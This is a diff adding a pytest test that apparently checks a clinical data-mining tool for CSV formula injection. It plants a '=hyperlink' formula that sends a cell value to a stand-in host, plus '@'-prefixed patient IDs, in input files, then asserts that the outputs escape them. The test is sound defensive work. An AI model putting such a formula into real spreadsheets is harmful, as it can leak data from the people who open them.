@@ -169,3 +169,47 @@ def test_help_states_defaults_as_typed(capsys):
         said = " ".join(capsys.readouterr().out.split())
         assert part in said
         assert "None" not in said
+
+
+NAMES = ("events", "outcome", "patients")
+LINK = '=hyperlink("http://x.example/?"&a1,"more")'
+
+
+def text_cells(folder):
+    """Return every cell of every CSV in a folder that is no number."""
+    cells = []
+    for path in folder.rglob("*.csv"):
+        with open(path, newline="", encoding="utf-8") as handle:
+            cells += [cell for row in csv.reader(handle) for cell in row]
+    return [cell for cell in cells if not _is_number(cell)]
+
+
+def _is_number(cell):
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_file_that_a_user_opens_holds_a_formula_from_a_note_or_table(cohort):
+    for name in NAMES:
+        with open(cohort / f"{name}.csv", newline="") as handle:
+            rows = [
+                [LINK if cell == "warfarin" else cell for cell in row] for row in csv.reader(handle)
+            ]
+        at = rows[0].index("patient")
+        rows[1:] = [[f"@{c}" if k == at else c for k, c in enumerate(row)] for row in rows[1:]]
+        with open(cohort / f"{name}.csv", "w", newline="") as handle:
+            csv.writer(handle).writerows(rows)
+    events, outcome, people = (str(cohort / f"{name}.csv") for name in NAMES)
+    rules, risk, new = (str(cohort / out) for out in ("rules", "risk", "new"))
+    given = ["--events", events, "--patients", people]
+    assert main(["mine", events, "--out", rules, "--min-count", "3"]) == 0
+    assert main(["risk", outcome, *given, "--out", risk, "--models", "naive_bayes",
+                 "--keep", "naive_bayes", "--n-boot", "10"]) == 0  # fmt: skip
+    assert main(["risk", "apply", f"{risk}/model", outcome, *given, "--out", new]) == 0
+    for out, wanted in (("rules", f"'{LINK}"), ("risk", "'@p0"), ("new", "'@p0")):
+        cells = text_cells(cohort / out)
+        assert wanted in cells
+        assert not [cell for cell in cells if cell.lstrip()[:1] in set("=+-@")]
